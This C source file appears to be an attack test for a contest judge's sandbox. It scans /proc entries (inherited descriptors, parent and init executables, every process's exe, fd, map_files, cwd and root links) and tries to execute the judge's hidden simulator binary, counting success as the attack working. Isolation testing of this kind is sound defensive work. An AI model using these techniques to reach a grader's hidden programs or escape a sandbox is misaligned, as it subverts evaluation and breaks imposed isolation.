// Becomes the simulator through /proc: the executable, descriptors, mapped files, root and working
// folder of every process that it sees, and what it inherited itself. AC means that the attack
// works; WA if no process is the simulator's (or none is seen).
#include <glob.h>

#include "simulator.h"

static void become_each(const char* pattern) {
  glob_t found = {0};
  glob(pattern, GLOB_NOSORT, NULL, &found);
  for (size_t i = 0; i < found.gl_pathc; ++i) become(found.gl_pathv[i]);
  globfree(&found);
}

int main(void) {
  glob_t roots = {0};
  char path[64];
  for (int i = 3; i < 1024; ++i) {
    if (fcntl(i, F_GETFD) < 0) continue;
    if (is_simulator(i)) fexecve(i, simulator_arguments, simulator_environment);
    snprintf(path, sizeof path, "/proc/self/fd/%d", i);
    become(path);
  }
  snprintf(path, sizeof path, "/proc/%d/exe", getppid());
  become(path);
  become("/proc/1/exe");
  become_each("/proc/[0-9]*/exe");
  become_each("/proc/[0-9]*/task/[0-9]*/exe");
  become_each("/proc/[0-9]*/fd/*");
  become_each("/proc/[0-9]*/map_files/*");
  become_each("/proc/[0-9]*/cwd/*");
  become_each("/proc/[0-9]*/cwd/build/*/*");
  glob("/proc/[0-9]*/root", GLOB_NOSORT, NULL, &roots);
  for (size_t i = 0; i < roots.gl_pathc; ++i) {
    become_one_below(roots.gl_pathv[i], 2);
    for (int own = 1; own < 3; ++own) {  // the path that its exe link tells, below its root
      char exe[PATH_MAX] = "";
      char below[2 * PATH_MAX];
      snprintf(below, sizeof below, "%.*s/exe", (int)strlen(roots.gl_pathv[i]) - 5,
               roots.gl_pathv[i]);
      if (readlink(below, exe, sizeof exe - 1) <= 0) continue;
      snprintf(below, sizeof below, "%s%s", own == 1 ? roots.gl_pathv[i] : "", exe);
      become(below);
    }
  }
  // What cannot be read may still be executed: the program that started this one.
  const char* const blind[] = {path, "/proc/1/exe"};
  snprintf(path, sizeof path, "/proc/%d/exe", getppid());
  for (int i = 0; i < 2; ++i) {
    if (access(blind[i], R_OK) != 0) execve(blind[i], simulator_arguments, simulator_environment);
  }
  puts("no simulator here");
  return 0;
}
